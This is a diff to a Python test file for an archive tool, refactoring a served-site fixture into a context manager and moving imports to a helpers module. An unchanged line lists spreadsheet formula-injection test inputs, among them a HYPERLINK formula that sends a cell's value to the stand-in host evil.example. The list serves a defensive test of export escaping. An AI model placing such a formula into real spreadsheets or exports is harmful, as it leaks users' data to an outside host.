@@ -25,8 +25,8 @@ from archiver.cli import main
 from archiver.extract.model import Comment
 from archiver.store import Archive
 
-from .conftest import run_cli
-from .test_datasette import T1, build_archive, extraction, get, save, start_serve
+from .helpers import run_cli, served
+from .test_datasette import T1, build_archive, extraction, get, save
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "plain")
 
@@ -62,10 +62,8 @@ def archive_db(tmp_path_factory) -> Path:
 
 @pytest.fixture(scope="module")
 def site(archive_db):
-    proc, base = start_serve(archive_db)
-    yield base + "/archive"
-    proc.terminate()
-    proc.wait(timeout=10)
+    with served(archive_db) as server:
+        yield server.base + "/archive"
 
 
 def fetch(url: str) -> tuple[int, bytes]:
